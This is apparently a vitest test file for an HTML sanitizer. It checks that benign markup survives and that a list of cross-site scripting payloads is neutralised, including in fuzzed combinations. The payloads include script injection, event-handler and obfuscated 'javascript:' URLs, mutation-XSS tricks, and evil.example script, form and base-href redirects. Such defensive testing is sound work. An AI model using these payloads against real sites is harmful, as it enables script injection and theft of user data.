import * as fc from 'fast-check';
import { expect, test } from 'vitest';
import { escapeHtml, htmlFilter } from '../../src/lib/html.ts';

const filter = htmlFilter('{{renew-url}}');

test.each([
  '<p>Read <strong>this</strong> &amp; <a href="https://shop.example/a?b=1">that</a></p>',
  '<img src="https://shop.example/a.png" alt="A">',
  '<a href="/renew" title="Now">Renew</a>',
  '<a href="{{renew-url}}">Renew {{product-name}}</a>',
])('%s stays as it is', (html) => {
  expect(filter(html)).toBe(html);
});

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="jav&Tab;ascript&colon;alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="{{product-name}}">x</a>',
  '<a href="{{renew-url}}{{product-name}}">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<math><mtext></p><img src onerror=alert(1)></mtext></math>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<a title="x" onclick="alert(1)" href="#">x</a>',
  '<a/onmouseover=alert(1)//href="#">x</a>',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<form action="https://evil.example"><input name=a></form>',
  '<base href="https://evil.example/">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<template><script>alert(1)</script></template>',
];

/** The tags of a text with their attributes, by a strict parser. */
const tags = (html: string) => [...html.matchAll(/<[^>]*>?/g)].map(([tag]) => tag);

const harmless =
  /^<\/?(a|img|p|br|hr|b|strong|i|em|u|s|small|mark|sub|sup|span|div|ul|ol|li|blockquote|code|pre|h[1-6])((?: (href|title|target|rel|src|alt|width|height)(="[^"<>]*")?)*) ?\/?>$/;

function expectHarmless(html: string) {
  for (const tag of tags(html)) {
    expect(tag).toMatch(harmless);
    for (const [, address = ''] of tag.matchAll(/ (?:href|src)="([^"]*)"/g)) {
      expect(address).toMatch(
        /^(https?:\/\/|mailto:|tel:|ftp:\/\/|data:image\/|\.{0,2}\/|#|\{\{renew-url\}\}$)/,
      );
    }
  }
}

test.each(attacks)('nothing executable is left of %s', (html) => {
  expectHarmless(filter(html));
});

test('nothing executable is left of attacks in any combination', () => {
  const pieces = fc.constantFrom(
    ...attacks,
    '<',
    '>',
    '"',
    "'",
    '=',
    ' ',
    '&lt;',
    '<p ',
    'a',
    '\n',
  );
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 8 }), (parts) => {
      expectHarmless(filter(parts.join('')));
    }),
    { numRuns: 2000 },
  );
});

test('text in HTML is escaped, in an attribute too', () => {
  expect(escapeHtml(`<b> "Tom" & 'Jerry'`)).toBe('&lt;b&gt; &quot;Tom&quot; &amp; &#39;Jerry&#39;');
});
